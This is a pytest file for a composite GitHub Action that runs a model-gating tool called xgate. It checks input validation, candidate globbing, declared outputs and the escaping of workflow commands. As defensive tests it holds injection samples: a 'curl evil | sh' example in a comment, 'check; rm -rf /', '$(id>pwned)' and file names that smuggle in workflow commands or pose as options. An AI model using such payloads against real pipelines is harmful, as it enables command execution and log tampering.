"""The composite GitHub Action: action.yml is well formed and safe, and its gate script behaves as a step."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from gate.inputs.review_set import ReviewSet
from gate.outputs.github import OUTPUT_KEYS, TRACKING_OUTPUT_KEYS
from tests.conftest import REPO, pinned_policy

ACTION = REPO / "action.yml"
SCRIPT = REPO / "scripts" / "action_gate.sh"
INSTALL = REPO / "scripts" / "action_install.sh"
BIN = Path(sys.executable).parent
HAS_XGATE = os.access(BIN / "xgate", os.X_OK)
# Node 24 majors (Node 20 actions are deprecated on GitHub's runners): looked up November 2026.
CURRENT_MAJORS = {"actions/setup-python": "v7", "actions/cache": "v6", "actions/upload-artifact": "v7"}
# A stand-in for xgate (and torchrun): records its arguments, one per line, and exits with $STUB_EXIT.
STUB = '#!/usr/bin/env bash\nprintf "%s\\n" "$(basename "$0")" "$@" > "$STUB_ARGS"\nexit "${STUB_EXIT:-0}"\n'


def action() -> dict[str, object]:
    return yaml.safe_load(ACTION.read_text())


def steps() -> list[dict[str, object]]:
    return action()["runs"]["steps"]  # type: ignore[index,no-any-return]


def test_action_is_composite_and_every_used_input_is_declared() -> None:
    doc = action()
    runs = doc["runs"]
    assert isinstance(runs, dict) and runs["using"] == "composite"
    declared = set(doc["inputs"])  # type: ignore[arg-type]
    used = set(re.findall(r"inputs\.([\w-]+)", ACTION.read_text().split("runs:", 1)[1]))
    assert used == declared, used ^ declared
    assert {"candidate", "policy"} <= {k for k, v in doc["inputs"].items() if v.get("required")}  # type: ignore


def test_inputs_never_reach_a_shell_script_directly() -> None:
    # ${{ inputs.x }} inside `run:` is pasted into the script before bash sees it: a path like
    # `a.pt; curl evil | sh` would run. Inputs go through `env:` instead.
    for step in steps():
        assert "${{" not in str(step.get("run", "")), step
    gate = next(step for step in steps() if step.get("id") == "gate")
    assert gate["run"] == 'bash "$GITHUB_ACTION_PATH/scripts/action_gate.sh"'
    assert gate["env"]["XGATE_CANDIDATES"] == "${{ inputs.candidate }}"  # type: ignore[index]
    upload = next(step for step in steps() if "upload-artifact" in str(step.get("uses", "")))
    assert upload["if"] == "always()"  # the report is uploaded when the gate fails too


def test_the_frame_cache_input_reaches_xgate_as_the_variable_it_reads() -> None:
    from gate.cli.gating import check

    gate = next(step for step in steps() if step.get("id") == "gate")
    assert gate["env"]["XGATE_FRAME_CACHE"] == "${{ inputs.frame-cache }}"  # type: ignore[index]
    option = next(p for p in check.params if p.name == "frame_cache")
    assert option.envvar == "XGATE_FRAME_CACHE"
    assert action()["inputs"]["frame-cache"]["default"] == ""  # type: ignore[index]  # empty: click reads no cache


def test_actions_used_are_current_majors() -> None:
    used = {str(s["uses"]).split("@")[0]: str(s["uses"]).split("@")[1] for s in steps() if "uses" in s}
    assert used == CURRENT_MAJORS


def test_install_uses_the_pinned_constraints_and_a_pip_cache_keyed_on_them() -> None:
    install = next(s for s in steps() if "action_install.sh" in str(s.get("run", "")))
    assert install["env"] == {"XGATE_TORCH_BUILD": "${{ inputs.torch-build }}"}
    script = INSTALL.read_text()
    assert '-c "$constraints"' in script and 'constraints="$root/constraints.txt"' in script
    assert "https://download.pytorch.org/whl/cpu" in script
    key_step = next(s for s in steps() if s.get("id") == "pip-cache")
    assert 'sha256sum "$GITHUB_ACTION_PATH/constraints.txt"' in str(key_step["run"])
    cache = next(s for s in steps() if str(s.get("uses", "")).startswith("actions/cache@"))
    key = cache["with"]["key"]  # type: ignore[index]
    assert "steps.pip-cache.outputs.constraints" in key and "inputs.torch-build" in key
    assert cache["with"]["path"] == "${{ steps.pip-cache.outputs.dir }}"  # type: ignore[index]


def test_install_refuses_an_unknown_torch_build() -> None:
    done = subprocess.run(["bash", str(INSTALL)], env={"PATH": os.environ["PATH"], "XGATE_TORCH_BUILD": "rocm"},
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 2 and "torch-build must be cuda or cpu, got 'rocm'" in done.stdout


@pytest.mark.parametrize("build", ["cpu", "cuda"])
def test_install_commands_for_each_torch_build(tmp_path: Path, build: str) -> None:
    # No network here: a stand-in `python` records the pip commands the install step would run.
    stubs = tmp_path / "stubs"
    stubs.mkdir()
    (stubs / "python").write_text('#!/usr/bin/env bash\necho "$*" >> "$STUB_ARGS"\n')
    (stubs / "python").chmod(0o755)
    env = {"PATH": f"{stubs}:/usr/bin:/bin", "XGATE_TORCH_BUILD": build, "GITHUB_ACTION_PATH": str(REPO),
           "STUB_ARGS": str(tmp_path / "args.txt")}
    done = subprocess.run(["bash", str(INSTALL)], env=env, capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stdout + done.stderr
    pins = f"-c {REPO}/constraints.txt"
    commands = (tmp_path / "args.txt").read_text().splitlines()
    index = "https://download.pytorch.org/whl/cpu"
    cpu = [f"-m pip install --quiet --no-deps --index-url {index} {pins} torch torchvision"]
    assert commands[:-1] == (cpu if build == "cpu" else []) + [f"-m pip install --quiet {pins} {REPO}"]
    assert commands[-1].startswith("-c import torch;")  # says which torch and whether CUDA is there


def test_job_summary_links_the_uploaded_artifact() -> None:
    link = next(s for s in steps() if "GITHUB_STEP_SUMMARY" in str(s.get("run", "")))
    assert link["env"]["ARTIFACT_URL"] == "${{ steps.upload.outputs.artifact-url }}"  # type: ignore[index]
    assert "always()" in str(link["if"]) and "steps.upload.outputs.artifact-url != ''" in str(link["if"])


@pytest.mark.skipif(not os.access(BIN / "shellcheck", os.X_OK), reason="shellcheck not installed")
def test_scripts_of_the_action_pass_shellcheck(tmp_path: Path) -> None:
    inline = [str(s["run"]) for s in steps() if "run" in s]
    for index, text in enumerate(inline):
        (tmp_path / f"step{index}.sh").write_text("#!/usr/bin/env bash\n" + text + "\n")
    files = [str(p) for p in sorted(tmp_path.glob("*.sh"))] + [str(SCRIPT), str(INSTALL)]
    done = subprocess.run([str(BIN / "shellcheck"), *files], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stdout


def test_every_output_the_step_writes_is_declared_and_every_declared_one_is_written() -> None:
    outputs = action()["outputs"]
    assert isinstance(outputs, dict)
    from_gate = {k for k, v in outputs.items() if v["value"] == f"${{{{ steps.gate.outputs.{k} }}}}"}
    script_keys = set(re.findall(r"^\s*output ([\w-]+) ", SCRIPT.read_text(), flags=re.M))
    assert script_keys == {"exit-code"}
    assert from_gate == set(OUTPUT_KEYS) | set(TRACKING_OUTPUT_KEYS) | script_keys
    assert set(outputs) - from_gate == {"artifact-url"}
    assert outputs["artifact-url"]["value"] == "${{ steps.upload.outputs.artifact-url }}"


# --- the gate script as a step ------------------------------------------------------------


def _step(tmp_path: Path, stub_exit: int | None = None, **inputs: str
          ) -> tuple[subprocess.CompletedProcess[str], dict[str, str], str]:
    """Run action_gate.sh as GitHub would: inputs as XGATE_* variables, temporary GITHUB_OUTPUT/STEP_SUMMARY.

    With ``stub_exit``, `xgate` and `torchrun` are stand-ins that record their arguments (see `_args`).
    """
    output, summary = tmp_path / "output.txt", tmp_path / "summary.md"
    path = f"{BIN}:/usr/bin:/bin"
    # PYTHONPATH: the real xgate runs the code under test (this tree), not whatever copy is installed.
    env = {"GITHUB_ACTIONS": "true", "CI": "true", "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary),
           "GITHUB_WORKSPACE": str(tmp_path), "HOME": str(tmp_path), "PYTHONPATH": str(REPO),
           **{f"XGATE_{k.upper()}": v for k, v in inputs.items()}}
    if stub_exit is not None:
        stubs = tmp_path / "stubs"
        stubs.mkdir(exist_ok=True)
        for name in ("xgate", "torchrun"):
            (stubs / name).write_text(STUB)
            (stubs / name).chmod(0o755)
        path = f"{stubs}:{path}"
        env |= {"STUB_ARGS": str(tmp_path / "args.txt"), "STUB_EXIT": str(stub_exit)}
    done = subprocess.run(["bash", str(SCRIPT)], cwd=tmp_path, env={**env, "PATH": path}, capture_output=True,
                          text=True, timeout=600)
    written = dict(line.split("=", 1) for line in output.read_text().splitlines() if "=" in line) \
        if output.exists() else {}
    return done, written, summary.read_text() if summary.exists() else ""


def _args(tmp_path: Path) -> list[str]:
    record = tmp_path / "args.txt"
    return record.read_text().splitlines() if record.exists() else []


def _models(tmp_path: Path, *names: str) -> Path:
    folder = tmp_path / "models"
    folder.mkdir()
    for name in names:
        (folder / name).write_bytes(b"")
    return folder


def test_a_glob_of_candidates_is_expanded_in_order(tmp_path: Path) -> None:
    _models(tmp_path, "b.pt", "a.pt", "notes.txt")
    (tmp_path / "models" / "v2").mkdir()
    (tmp_path / "models" / "v2" / "c.pt").write_bytes(b"")
    done, outputs, _ = _step(tmp_path, 0, command="select", candidates="models/*.pt\nmodels/**/c.pt",
                             policy="p.yaml")
    assert done.returncode == 0, done.stdout + done.stderr
    assert _args(tmp_path) == ["xgate", "select", "--policy", "p.yaml", "--out", "xgate-out", "--no-mlflow", "--",
                               "models/a.pt", "models/b.pt", "models/v2/c.pt"]
    assert outputs == {"exit-code": "0"}


def test_a_double_star_glob_reaches_every_depth(tmp_path: Path) -> None:
    # globstar: without it `**` is `*` and models/v2/deep/d.pt would be silently skipped.
    _models(tmp_path, "a.pt")
    (tmp_path / "models" / "v2" / "deep").mkdir(parents=True)
    (tmp_path / "models" / "v2" / "deep" / "d.pt").write_bytes(b"")
    done, _, _ = _step(tmp_path, 0, command="select", candidates="models/**/*.pt", policy="p.yaml")
    assert done.returncode == 0, done.stdout + done.stderr
    assert _args(tmp_path)[-3:] == ["--", "models/a.pt", "models/v2/deep/d.pt"]


HOSTILE_NAMES = ("--frame-cache=.pt", "-h.pt", "x\n::warning title=pwned::injected.pt", "y\r::notice::z%0A.pt")


def test_file_names_that_look_like_options_or_commands_stay_candidates(tmp_path: Path) -> None:
    (tmp_path / "a.pt").write_bytes(b"")
    for name in HOSTILE_NAMES:
        (tmp_path / name).write_bytes(b"")
    done, _, _ = _step(tmp_path, 0, command="select", candidates="*.pt", policy="p.yaml")
    assert done.returncode == 0, done.stdout + done.stderr
    args = (tmp_path / "args.txt").read_text().split("\n")  # names with a newline span two records
    separator = args.index("--")
    assert "--policy" in args[:separator] and not any(a.startswith("--frame") for a in args[:separator])
    assert "--frame-cache=.pt" in args[separator:] and "-h.pt" in args[separator:]


def test_a_candidate_name_with_a_newline_cannot_inject_a_workflow_command(tmp_path: Path) -> None:
    _models(tmp_path, "a.pt", "b.pt", "x\n::warning title=pwned::injected.pt", "y\r::notice::z%.pt")
    done, outputs, _ = _step(tmp_path, 0, candidates="models/*.pt", policy="p.yaml")  # check: several files
    assert done.returncode == 2 and outputs == {"exit-code": "2"}
    lines = done.stdout.splitlines()
    assert len(lines) == 1 and lines[0].startswith("::error title=xgate::command check gates one candidate")
    assert "x%0A::warning title=pwned::injected.pt" in lines[0] and "y%0D::notice::z%25.pt" in lines[0]


def test_a_file_named_like_a_glob_is_taken_literally(tmp_path: Path) -> None:
    _models(tmp_path, "model[1].pt", "model1.pt")
    done, _, _ = _step(tmp_path, 0, candidates="models/model[1].pt", policy="p.yaml")
    assert done.returncode == 0 and _args(tmp_path)[-2:] == ["--", "models/model[1].pt"]


def test_a_glob_that_matches_nothing_is_a_clear_error(tmp_path: Path) -> None:
    _models(tmp_path, "a.onnx")
    done, outputs, _ = _step(tmp_path, 0, command="select", candidates="models/*.pt", policy="p.yaml")
    assert done.returncode == 2 and outputs == {"exit-code": "2"}
    assert done.stdout.startswith("::error title=xgate::the candidate glob 'models/*.pt' matched no file (in ")
    assert _args(tmp_path) == []  # xgate never ran


def test_check_refuses_a_glob_of_several_candidates(tmp_path: Path) -> None:
    _models(tmp_path, "a.pt", "b.pt")
    done, _, _ = _step(tmp_path, 0, candidates="models/*.pt", policy="p.yaml")
    assert done.returncode == 2 and "command check gates one candidate" in done.stdout
    assert "use command: select" in done.stdout and _args(tmp_path) == []


def test_quoted_args_survive_and_nothing_is_expanded(tmp_path: Path) -> None:
    args = '--experiment "my exp" --batch-size 64\n# a comment line\n--tracking-uri \'$(id>pwned)\' --seed *\n'
    done, _, _ = _step(tmp_path, 0, candidates='"my model.pt"', policy="p.yaml", args=args, baseline="models:/m@c")
    assert done.returncode == 0, done.stdout + done.stderr
    assert _args(tmp_path) == ["xgate", "check", "--policy", "p.yaml", "--out", "xgate-out",
                               "--baseline", "models:/m@c", "--no-mlflow", "--experiment", "my exp",
                               "--batch-size", "64", "--tracking-uri", "$(id>pwned)", "--seed", "*",
                               "--", "my model.pt"]
    assert not (tmp_path / "pwned").exists()


def test_unbalanced_quotes_in_args_are_a_clear_error(tmp_path: Path) -> None:
    done, outputs, _ = _step(tmp_path, 0, candidates="a.pt", policy="p.yaml", args='--experiment "my exp')
    assert done.returncode == 2 and outputs == {"exit-code": "2"}
    assert "::error title=xgate::cannot split the args input: line 1" in done.stdout
    assert "No closing quotation" in done.stdout


@pytest.mark.parametrize(("fail_on", "xgate_exit", "step_exit"),
                         [("never", 1, 0), ("never", 2, 2), ("never", 3, 3), ("fail", 1, 1), ("fail", 0, 0)])
def test_advisory_mode_only_forgives_a_failed_policy(tmp_path: Path, fail_on: str, xgate_exit: int,
                                                    step_exit: int) -> None:
    done, outputs, _ = _step(tmp_path, xgate_exit, candidates="a.pt", policy="p.yaml", fail_on=fail_on)
    assert done.returncode == step_exit and outputs["exit-code"] == str(xgate_exit)
    assert ("advisory mode" in done.stdout) == (fail_on == "never" and xgate_exit == 1)


def test_torchrun_runs_one_process_per_gpu_or_n(tmp_path: Path) -> None:
    done, _, _ = _step(tmp_path, 0, candidates="a.pt", policy="p.yaml", torchrun="4")
    assert done.returncode == 0
    assert _args(tmp_path)[:6] == ["torchrun", "--standalone", "--nproc-per-node", "4", "-m", "gate"]
    assert _args(tmp_path)[6] == "check" and _args(tmp_path)[-2:] == ["--", "a.pt"]
    _step(tmp_path, 0, candidates="a.pt", policy="p.yaml", torchrun="1")
    assert _args(tmp_path)[:2] == ["xgate", "check"]


@pytest.mark.parametrize(("inputs", "message"), [
    ({"command": "check; rm -rf /"}, "command must be check or select, got 'check; rm -rf /'"),
    ({"fail_on": "sometimes"}, "fail-on must be fail or never, got 'sometimes'"),
    ({"torchrun": "-1"}, "torchrun must be a number of processes per node"),
    ({"candidates": ""}, "the candidate and policy inputs are required"),
    ({"policy": ""}, "the candidate and policy inputs are required"),
])
def test_bad_inputs_exit_2_with_one_error_line(tmp_path: Path, inputs: dict[str, str], message: str) -> None:
    done, outputs, _ = _step(tmp_path, 0, **{"candidates": "a.pt", "policy": "p.yaml", **inputs})
    assert done.returncode == 2 and outputs == {"exit-code": "2"}
    lines = done.stdout.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"::error title=xgate::{message}")
    assert _args(tmp_path) == []


# --- with the real xgate ---------------------------------------------------------------------


@pytest.mark.skipif(not HAS_XGATE, reason="xgate not installed")
@pytest.mark.parametrize(("floor", "fail_on", "code", "step", "verdict"),
                         [(0.0, "fail", 0, 0, "passed"), (0.99, "fail", 1, 1, "failed"),
                          (0.99, "never", 1, 0, "failed")])
def test_gate_step_writes_outputs_summary_and_annotations(tmp_path: Path, small_set: ReviewSet,
                                                          untrained_checkpoint: Path, floor: float, fail_on: str,
                                                          code: int, step: int, verdict: str) -> None:
    policy = pinned_policy(tmp_path, small_set, [{"score": "accuracy", "min": floor}])
    done, outputs, summary = _step(tmp_path, candidates=str(untrained_checkpoint), policy=str(policy),
                                   out="gate-out", args="--device cpu --batch-size 16", fail_on=fail_on)
    assert done.returncode == step, done.stderr
    assert outputs["exit-code"] == str(code) and outputs["verdict"] == verdict
    assert outputs["report"].endswith("gate-out/report.html") and (tmp_path / "gate-out" / "report.html").exists()
    assert outputs["junit"].endswith("gate-out/junit.xml") and (tmp_path / "gate-out" / "junit.xml").exists()
    assert "untrained.pt" in summary
    # CI=true: progress as log lines (one batch of 16 is a third of the 48 samples)
    progress = [line for line in done.stderr.splitlines() if line.startswith("xgate: gating ")]
    assert [line.split(" (")[0] for line in progress] == ["xgate: gating 33%", "xgate: gating 66%",
                                                          "xgate: gating 100%"]
    assert progress[-1].endswith(" images/s, device cpu, candidates untrained.pt")
    annotations = [line for line in done.stdout.splitlines() if line.startswith(("::error", "::warning"))]
    level = "warning" if fail_on == "never" else "error"  # advisory mode blocks nothing: warnings
    expected = [f"::{level} title=xgate: untrained.pt::accuracy = 0.25 fails >= 0.99"] if code else []
    if step != code:
        expected.append("::warning title=xgate::the candidate failed the policy; fail-on: never (advisory mode) "
                        "lets the job go on")
    assert annotations == expected
    assert not (tmp_path / "mlflow.db").exists()  # no tracking URI given: no MLflow


@pytest.mark.slow
@pytest.mark.skipif(not HAS_XGATE, reason="xgate not installed")
def test_select_over_a_glob_logged_to_mlflow_writes_every_declared_output(tmp_path: Path, small_set: ReviewSet,
                                                                          untrained_checkpoint: Path) -> None:
    models = _models(tmp_path)
    for name in ("a.pt", "b.pt"):
        shutil.copy(untrained_checkpoint, models / name)
    policy = pinned_policy(tmp_path, small_set, [{"score": "accuracy", "min": 0.0}])
    done, outputs, _ = _step(tmp_path, command="select", candidates="models/*.pt", policy=str(policy),
                             tracking_uri=f"sqlite:///{tmp_path / 'mlflow.db'}",
                             args='--device cpu\n--experiment "gate $(id) exp"')
    assert done.returncode == 0, done.stdout + done.stderr
    declared = {k for k, v in action()["outputs"].items() if "steps.gate." in v["value"]}  # type: ignore[union-attr]
    assert set(outputs) == declared
    assert outputs["verdict"] == "passed" and outputs["selected"] in {"a.pt", "b.pt"}
    run_ids = outputs["mlflow-run-ids"].split()
    assert len(run_ids) == 3 and outputs["mlflow-run-id"] == run_ids[0]  # the select parent, then a.pt, b.pt
    assert outputs["mlflow-run-url"] == ""  # a local store has no web UI to link
    from mlflow import MlflowClient

    client = MlflowClient(tracking_uri=f"sqlite:///{tmp_path / 'mlflow.db'}")
    experiment = client.get_experiment_by_name("gate $(id) exp")  # the quoted value arrived whole, unexpanded
    assert experiment is not None and client.get_run(run_ids[0]).info.experiment_id == experiment.experiment_id


@pytest.mark.slow
@pytest.mark.skipif(not HAS_XGATE, reason="xgate not installed")
def test_hostile_file_names_beside_real_candidates_gate_only_the_candidates(tmp_path: Path, small_set: ReviewSet,
                                                                           untrained_checkpoint: Path) -> None:
    # The attack of issue 21: `--frame-cache=.pt` beside a hidden `.pt/` folder once became an option and made
    # xgate read a planted cache. Every matched name must be gated as a checkpoint, and the log must hold no
    # workflow command but xgate's own (names escaped).
    names = ["a.pt", *HOSTILE_NAMES]
    for name in names:
        shutil.copy(untrained_checkpoint, tmp_path / name)
    (tmp_path / ".pt").mkdir()
    (tmp_path / ".pt" / "planted").write_text("a crafted cache entry would be here")
    policy = pinned_policy(tmp_path, small_set, [{"score": "accuracy", "min": 0.9}])
    done, outputs, summary = _step(tmp_path, command="select", candidates="*.pt", policy=str(policy),
                                   out="gate-out", args="--device cpu --batch-size 48 --workers 0")
    assert done.returncode == 1, done.stdout + done.stderr  # 25% accuracy fails, whatever a cache would say
    assert outputs["verdict"] == "failed"
    result = json.loads((tmp_path / "gate-out" / "result.json").read_text())
    assert sorted(c["candidate"]["name"] for c in result["candidates"]) == sorted(names)
    assert result["environment"]["frames"] == "decoded"
    assert sorted(p.name for p in (tmp_path / ".pt").iterdir()) == ["planted"]
    for line in (done.stdout + done.stderr).splitlines():
        if line.startswith("::"):
            assert line.startswith("::error title=xgate: "), line  # no ::warning / ::notice of the names
    assert "x%0A%3A%3Awarning title=pwned%3A%3Ainjected.pt" in done.stdout  # escaped, as a property value
    assert "\n::warning title=pwned" not in done.stdout + done.stderr and "\n::notice" not in done.stdout + summary
